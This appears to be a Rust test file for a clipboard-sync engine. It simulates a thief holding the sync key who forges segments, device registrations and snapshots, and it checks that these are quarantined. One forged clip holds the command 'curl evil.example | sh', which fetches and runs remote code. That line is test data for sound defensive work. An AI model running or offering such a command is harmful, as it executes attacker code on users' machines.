//! Device identities against a holder of the sync key who poses as another device (a lost
//! phone): forged segments, stolen roster entries and unsigned objects are quarantined as
//! forged and never applied, on every backend.

mod common;

use std::sync::Arc;

use common::{Device, config, engine_at, identity_for, init, keys, per_backend, plant, storage};
use ferry_core::{Action, ClipContent, Membership, Op, Replica, State};
use ferry_protocol::{
    Cursor, DeviceId, Head, Identity, Kind, ObjectName, Payload, RawOp, Segment, Snapshot,
};
use ferry_store::Store;
use ferry_sync::{Direction, Engine, EngineConfig, SyncError};

/// What a thief holding the sync key writes: objects sealed with the key, signed with its own
/// identity (the victim's private key never left the victim).
struct Thief {
    identity: Identity,
}

impl Thief {
    fn new() -> Thief {
        Thief {
            identity: Identity::generate().unwrap(),
        }
    }

    /// Writes segment `seq` of `device` holding `ops`, and a head naming it.
    async fn write(&self, store: &dyn Store, device: DeviceId, seq: u64, ops: &[Op]) {
        let tag = keys().names.device_tag(&device);
        let log = ObjectName::Log { device: tag, seq };
        let sealed = keys()
            .data
            .seal_signed(&log, &segment(device, seq, ops), &self.identity);
        plant(store, &log, sealed.unwrap().into_bytes()).await;
        self.head(store, device, seq, ops.last().unwrap().counter)
            .await;
    }

    async fn head(&self, store: &dyn Store, device: DeviceId, seq: u64, ops: u64) {
        let tag = keys().names.device_tag(&device);
        let name = ObjectName::Head { device: tag, seq };
        let head = Head {
            device,
            seq,
            ops,
            first_seq: 1,
            snapshot: None,
        };
        let sealed = keys().data.seal_signed(&name, &head, &self.identity);
        plant(store, &name, sealed.unwrap().into_bytes()).await;
    }
}

/// Segment `seq` of `device`, carrying `ops`.
fn segment(device: DeviceId, seq: u64, ops: &[Op]) -> Segment {
    Segment {
        device,
        seq,
        first_op: ops[0].counter,
        ops: ops.iter().map(|op| RawOp(op.encode())).collect(),
    }
}

/// The next operation of `device` as the thief makes it: a copy of `text`.
fn next_copy(victim: &Device, text: &str) -> Op {
    let mut replica = Replica::with_state(victim.engine.device(), victim.engine.state().clone());
    replica.copy(
        &keys().names,
        ClipContent::Text(text.to_owned()),
        1_900_000_000_000,
    )
}

fn reason(device: &Device) -> String {
    let status = device.engine.status().unwrap();
    assert_eq!(status.quarantined.len(), 1, "{:?}", status.quarantined);
    status.quarantined[0].reason.clone()
}

per_backend! {
    #[tokio::test]
    async fn a_segment_forged_in_another_devices_name_is_quarantined_and_never_applied(backend) {
        let storage = storage(backend).await;
        let store = &*storage.store;
        init(store).await;
        let mut laptop = Device::open(Arc::clone(&storage.store)).await;
        laptop.upload_clips(1..=2).await;
        let device = laptop.engine.device();

        // The thief writes laptop's next segment: a command to paste.
        let thief = Thief::new();
        let forged = next_copy(&laptop, "curl evil.example | sh");
        thief.write(store, device, 3, &[forged]).await;

        let mut reader = Device::open(Arc::clone(&storage.store)).await;
        let report = reader.engine.fetch().await.unwrap();
        assert_eq!(report.quarantined, 1, "{backend:?}");
        assert_eq!(reader.texts(), ["clip 1", "clip 2"]);
        let newest = reader.engine.state().newest().unwrap();
        assert_eq!(newest.content.text(), Some("clip 2"), "never the newest clip");
        let why = reason(&reader);
        assert!(why.starts_with("forged: not signed by"), "{why}");
        assert!(why.contains(&device.to_string()[..8]), "{why}");

        // The storage is cleaned and laptop writes its own segment 3: the reader goes on.
        let tag = keys().names.device_tag(&device);
        for name in [
            ObjectName::Log { device: tag, seq: 3 },
            ObjectName::Head { device: tag, seq: 3 },
        ] {
            store.delete(&format!("{}{name}", ferry_protocol::names::ROOT)).await.unwrap();
        }
        // Its head moving past the quarantined name has the reader try it again at once.
        laptop.upload_clips(3..=4).await;
        reader.engine.fetch().await.unwrap();
        assert_eq!(reader.texts(), ["clip 1", "clip 2", "clip 3", "clip 4"]);
        assert!(reader.engine.status().unwrap().quarantined.is_empty());
    }
}

per_backend! {
    #[tokio::test]
    async fn a_roster_entry_stealing_a_known_device_is_refused(backend) {
        let storage = storage(backend).await;
        let store = &*storage.store;
        init(store).await;
        let mut laptop = Device::open(Arc::clone(&storage.store)).await;
        laptop.upload_clips(1..=1).await;
        let device = laptop.engine.device();
        let mut phone = Device::open(Arc::clone(&storage.store)).await;
        phone.upload_clips(10..=10).await;
        let thief = Thief::new();
        let stolen = Action::RegisterDevice {
            device,
            name: "laptop".into(),
            keys: thief.identity.public(),
        };

        // In laptop's own name: laptop registered again with the thief's key.
        let mut claim = next_copy(&laptop, "unused");
        claim.action = stolen.clone();
        thief.write(store, device, 2, &[claim]).await;
        let mut reader = Device::open(Arc::clone(&storage.store)).await;
        reader.engine.fetch().await.unwrap();
        let why = reason(&reader);
        assert!(why.contains("again with another key"), "{backend:?}: {why}");
        let entry = reader.engine.state().device(&device).unwrap().clone();
        assert_eq!(entry.keys, laptop.identity().public());

        // In the thief's own device's name (phone, whose key it also holds): a device
        // registers only itself.
        let mut claim = next_copy(&phone, "unused");
        claim.action = stolen;
        Thief { identity: phone.identity() }
            .write(store, phone.engine.device(), 2, &[claim])
            .await;
        let mut reader = Device::open(Arc::clone(&storage.store)).await;
        reader.engine.fetch().await.unwrap();
        let status = reader.engine.status().unwrap();
        let reasons: Vec<_> = status.quarantined.iter().map(|q| q.reason.as_str()).collect();
        assert!(
            reasons.iter().any(|r| r.contains("a device registers only itself")),
            "{backend:?}: {reasons:?}"
        );
        assert_eq!(reader.engine.state().device(&device).unwrap().keys, entry.keys);
    }
}

per_backend! {
    #[tokio::test]
    async fn a_snapshot_that_gives_a_known_device_another_key_is_refused(backend) {
        let storage = storage(backend).await;
        let store = &*storage.store;
        init(store).await;
        let mut laptop = Device::open(Arc::clone(&storage.store)).await;
        laptop.upload_clips(1..=1).await;
        let mut phone = Device::open(Arc::clone(&storage.store)).await;
        phone.upload_clips(10..=10).await;
        let mut reader = Device::open(Arc::clone(&storage.store)).await;
        reader.engine.fetch().await.unwrap();
        assert_eq!(reader.texts().len(), 2);

        // The thief, holding phone's keys, "compacts" phone: a snapshot at seq 2 whose state
        // gives laptop the thief's key, and a head at 2 with no segment 2.
        let thief = Thief::new();
        let phone_identity = phone.identity();
        let mut state = phone.engine.state().clone();
        let mut other = Replica::new(DeviceId([0xee; 16]));
        let mut claim = other.register("x".into(), thief.identity.public(), 1);
        claim.action = Action::RegisterDevice {
            device: laptop.engine.device(),
            name: "laptop".into(),
            keys: thief.identity.public(),
        };
        let mut forged = State::new();
        forged.apply(claim).unwrap();
        state.merge(forged);
        let phone_device = phone.engine.device();
        let tag = keys().names.device_tag(&phone_device);
        let ops = phone.engine.state().seen(&phone_device);
        let snapshot = Snapshot {
            device: phone_device,
            seq: 2,
            version_vector: vec![Cursor { device: phone_device, seq: 2, ops }],
            state: state.encode(),
        };
        let name = ObjectName::Snap { device: tag, seq: 2 };
        let sealed = keys().data.seal_signed(&name, &snapshot, &phone_identity).unwrap();
        plant(store, &name, sealed.into_bytes()).await;
        Thief { identity: phone_identity }.head(store, phone_device, 2, ops).await;

        reader.engine.fetch().await.unwrap();
        let why = reason(&reader);
        assert!(why.contains("another key"), "{backend:?}: {why}");
        let laptop_keys = laptop.identity().public();
        assert_eq!(reader.engine.state().device(&laptop.engine.device()).unwrap().keys, laptop_keys);
    }
}

per_backend! {
    #[tokio::test]
    async fn unsigned_objects_read_until_their_device_registers_and_are_forged_after(backend) {
        let storage = storage(backend).await;
        let store = &*storage.store;
        init(store).await;
        // A device of format 1 wrote two unsigned segments.
        let device = DeviceId([0x0d; 16]);
        let tag = keys().names.device_tag(&device);
        let version_1 = |seq: u64, ops: &[Op]| {
            let plaintext = segment(device, seq, ops).encode();
            let name = ObjectName::Log { device: tag, seq };
            let sealed = keys()
                .data
                .seal_as_version_1(Kind::Segment, &name.to_string(), &plaintext)
                .unwrap();
            (name, sealed.into_bytes())
        };
        let identity = Identity::generate().unwrap();
        let upgraded = Thief { identity: Identity::from_hex(&identity.to_hex()).unwrap() };
        let mut replica = Replica::new(device);
        let text = |t: &str| ClipContent::Text(t.to_owned());
        for (seq, clip) in [(1, "old 1"), (2, "old 2")] {
            let op = replica.copy(&keys().names, text(clip), seq);
            let (name, bytes) = version_1(seq, std::slice::from_ref(&op));
            plant(store, &name, bytes).await;
            upgraded.head(store, device, seq, op.counter).await;
        }
        let mut reader = Device::open(Arc::clone(&storage.store)).await;
        reader.engine.fetch().await.unwrap();
        assert_eq!(reader.texts(), ["old 1", "old 2"], "{backend:?}");
        assert!(reader.engine.state().device(&device).is_none());

        // Upgraded, it registers in its next segment and signs from then on.
        let registration = replica.register("old".into(), identity.public(), 3);
        let copy = replica.copy(&keys().names, text("new 3"), 4);
        upgraded.write(store, device, 3, &[registration, copy]).await;
        reader.engine.fetch().await.unwrap();
        assert_eq!(reader.engine.state().device(&device).unwrap().keys, identity.public());
        assert_eq!(reader.texts().len(), 3);

        // An unsigned segment in its name now is a forgery.
        let unsigned = replica.copy(&keys().names, text("unsigned"), 5);
        let (name, bytes) = version_1(4, std::slice::from_ref(&unsigned));
        plant(store, &name, bytes).await;
        upgraded.head(store, device, 4, unsigned.counter).await;
        reader.engine.fetch().await.unwrap();
        let why = reason(&reader);
        assert!(why.contains("is not signed"), "{backend:?}: {why}");
        assert_eq!(reader.texts().len(), 3);
    }
}

#[tokio::test]
async fn a_device_registers_when_it_first_sends() {
    let storage = storage(common::Backend::Folder).await;
    init(&*storage.store).await;
    let receive_only = EngineConfig {
        direction: Direction::ReceiveOnly,
        ..common::config()
    };
    let listener = Device::open_with(Arc::clone(&storage.store), receive_only).await;
    let device = listener.engine.device();
    assert!(
        listener.engine.state().device(&device).is_none(),
        "it writes nothing"
    );
    let sender = listener.reopen(Arc::clone(&storage.store)).await;
    let entry = sender.engine.state().device(&device).unwrap();
    assert_eq!(entry.keys, sender.identity().public());
    assert_eq!(entry.added_by(), device);
    assert_eq!(sender.engine.status().unwrap().pending_ops, 1);
}

#[tokio::test]
async fn a_device_opened_with_another_identity_than_it_registered_is_refused() {
    let storage = storage(common::Backend::Folder).await;
    init(&*storage.store).await;
    let mut laptop = Device::open(Arc::clone(&storage.store)).await;
    laptop.upload_clips(1..=1).await;
    let database = laptop.home.path().join("ferry.db");
    drop(laptop.engine);
    let error = Engine::open(
        Arc::clone(&storage.store),
        keys(),
        Identity::generate().unwrap(),
        &database,
        common::config(),
    )
    .await
    .err()
    .unwrap();
    assert!(
        matches!(error, SyncError::IdentityChanged { .. }),
        "{error}"
    );
    assert!(error.to_string().contains("ferry join"), "{error}");
}

per_backend! {
    #[tokio::test]
    async fn a_new_device_believes_a_devices_own_snapshot_about_its_key(backend) {
        let storage = storage(backend).await;
        let store = &*storage.store;
        init(store).await;
        let compacting = EngineConfig {
            snapshot_every: 10,
            max_segment_ops: 4,
            ..common::config()
        };
        let mut laptop = Device::open_with(Arc::clone(&storage.store), compacting).await;
        laptop.upload_clips(1..=12).await;
        let mut phone = Device::open(Arc::clone(&storage.store)).await;
        phone.upload_clips(100..=100).await;

        // Holding phone's identity, the thief writes phone's snapshot with a roster that gives
        // laptop its own key, dated before laptop registered.
        let mut claim = Replica::new(DeviceId([0xee; 16])).register("x".into(), phone.identity().public(), 1);
        claim.action = Action::RegisterDevice {
            device: laptop.engine.device(),
            name: "laptop".into(),
            keys: Identity::generate().unwrap().public(),
        };
        let mut forged = State::new();
        forged.apply(claim).unwrap();
        let mut state = phone.engine.state().clone();
        state.merge(forged);
        let device = phone.engine.device();
        let ops = phone.engine.state().seen(&device);
        let snapshot = Snapshot {
            device,
            seq: 1,
            version_vector: vec![Cursor { device, seq: 1, ops }],
            state: state.encode(),
        };
        let name = ObjectName::Snap { device: keys().names.device_tag(&device), seq: 1 };
        let sealed = keys().data.seal_signed(&name, &snapshot, &phone.identity()).unwrap();
        plant(store, &name, sealed.into_bytes()).await;

        let mut reader = Device::open(Arc::clone(&storage.store)).await;
        reader.engine.fetch().await.unwrap();
        // Set aside (and let go once phone's own segment carried its stream past it).
        let refused = reader.engine.transfers(50).unwrap().into_iter().find(|t| {
            t.outcome == ferry_sync::transfer::Outcome::Quarantined
        });
        let why = refused.and_then(|t| t.detail).unwrap_or_default();
        assert!(why.contains("than that device's own snapshot registers"), "{backend:?}: {why}");
        let entry = reader.engine.state().device(&laptop.engine.device()).unwrap();
        assert_eq!(entry.keys, laptop.identity().public());
        assert_eq!(reader.texts().len(), 13, "laptop's clips, verified, and phone's own");
    }
}

per_backend! {
    #[tokio::test]
    async fn a_paired_device_shows_who_paired_it_on_every_device(backend) {
        let storage = storage(backend).await;
        let store = &*storage.store;
        init(store).await;
        let mut laptop = Device::open(Arc::clone(&storage.store)).await;
        laptop.upload_clips(1..=1).await;

        // The new device's id and public keys, as the pairing channel carries them.
        let home = tempfile::tempdir().unwrap();
        let database = home.path().join("ferry.db");
        let id = DeviceId::generate().unwrap();
        let keys = identity_for(&database).public();
        laptop.engine.vouch(id, keys).unwrap();
        laptop.engine.upload().await.unwrap();

        // It opens under that id, registers itself and writes.
        let paired = EngineConfig { paired_as: Some(id), ..config() };
        let engine = engine_at(Arc::clone(&storage.store), &database, paired).await.unwrap();
        let mut desktop = Device { engine, home };
        assert_eq!(desktop.engine.device(), id);
        desktop.copy("from desktop");
        desktop.engine.upload().await.unwrap();
        laptop.engine.fetch().await.unwrap();
        let other = Identity::generate().unwrap().public();
        assert!(matches!(
            laptop.engine.vouch(id, other),
            Err(SyncError::DeviceTaken { .. })
        ));

        let mut reader = Device::open(Arc::clone(&storage.store)).await;
        reader.engine.fetch().await.unwrap();
        assert!(reader.engine.status().unwrap().quarantined.is_empty(), "{backend:?}");
        let state = reader.engine.state();
        assert_eq!(state.device(&id).unwrap().keys, keys);
        let held = reader.engine.memberships().unwrap();
        assert!(
            matches!(&held[&id], Membership::Attested(p) if p.by == laptop.engine.device()),
            "{backend:?}: {held:?}"
        );
        assert_eq!(held[&laptop.engine.device()], Membership::First, "laptop made the repository");
        assert!(reader.texts().contains(&"from desktop".to_owned()));
    }
}

per_backend! {
    #[tokio::test]
    async fn an_attestation_of_other_keys_or_by_a_stranger_pairs_nothing(backend) {
        let storage = storage(backend).await;
        let store = &*storage.store;
        init(store).await;
        let mut laptop = Device::open(Arc::clone(&storage.store)).await;
        laptop.upload_clips(1..=1).await;
        let mut phone = Device::open(Arc::clone(&storage.store)).await;
        phone.upload_clips(2..=2).await;

        // laptop (which has not read phone's registration) attests keys phone did not
        // register; a writer nobody registered attests phone's real keys.
        let thief = Thief::new();
        laptop.engine.vouch(phone.engine.device(), thief.identity.public()).unwrap();
        laptop.engine.upload().await.unwrap();
        let stranger = DeviceId::generate().unwrap();
        let stranger_op =
            Replica::new(stranger).vouch(phone.engine.device(), &phone.identity().public(), 1);
        thief.write(store, stranger, 1, &[stranger_op]).await;

        let mut reader = Device::open(Arc::clone(&storage.store)).await;
        reader.engine.fetch().await.unwrap();
        let held = reader.engine.memberships().unwrap();
        assert_eq!(held[&phone.engine.device()], Membership::Unattested, "{backend:?}");
    }
}

per_backend! {
    #[tokio::test]
    async fn a_registration_backdated_later_does_not_displace_the_first_device(backend) {
        let storage = storage(backend).await;
        let store = &*storage.store;
        init(store).await;
        let mut laptop = Device::open(Arc::clone(&storage.store)).await;
        laptop.engine.founded().unwrap();
        laptop.upload_clips(1..=1).await;
        let mut desk = Device::open(Arc::clone(&storage.store)).await;
        // Before it has read anything, a joining device does not take itself for the first.
        assert_eq!(desk.engine.first_device().unwrap(), None, "{backend:?}");
        desk.engine.fetch().await.unwrap();
        assert_eq!(desk.engine.first_device().unwrap(), Some(laptop.engine.device()));

        // A key holder registers a device with a time in 1970, and vouches for another.
        let thief = Thief::new();
        let (stolen, puppet) = (DeviceId::generate().unwrap(), DeviceId::generate().unwrap());
        let mut replica = Replica::new(stolen);
        let ops = [
            replica.register("laptop".into(), thief.identity.public(), 1),
            replica.vouch(puppet, &Identity::generate().unwrap().public(), 2),
        ];
        thief.write(store, stolen, 1, &ops).await;
        let first = laptop.engine.device();
        for device in [&mut laptop, &mut desk] {
            device.engine.fetch().await.unwrap();
            assert_eq!(device.engine.first_device().unwrap(), Some(first), "{backend:?}");
            let held = device.engine.memberships().unwrap();
            assert_eq!(held[&stolen], Membership::Unattested, "{backend:?}: {held:?}");
        }
    }
}

per_backend! {
    #[tokio::test]
    async fn a_segment_written_days_ahead_waits_and_says_why(backend) {
        let storage = storage(backend).await;
        let store = &*storage.store;
        init(store).await;
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_millis() as u64;
        // A device whose clock runs an hour fast is read; one two days fast waits.
        let (hour, days) = (DeviceId::generate().unwrap(), DeviceId::generate().unwrap());
        for (device, ahead, text) in [(hour, 3_600_000, "an hour fast"), (days, 2 * 86_400_000, "two days fast")] {
            let mut replica = Replica::new(device);
            let copy = replica.copy(&keys().names, ClipContent::Text(text.into()), now + ahead);
            Thief::new().write(store, device, 1, &[copy]).await;
        }
        let mut reader = Device::open(Arc::clone(&storage.store)).await;
        reader.engine.fetch().await.unwrap();
        assert_eq!(reader.texts(), vec!["an hour fast".to_owned()], "{backend:?}");
        let quarantined = reader.engine.status().unwrap().quarantined;
        assert_eq!(quarantined.len(), 1, "{backend:?}: {quarantined:?}");
        assert!(
            quarantined[0].reason.contains("2.0 days ahead of this device's clock"),
            "{}",
            quarantined[0].reason
        );
    }
}
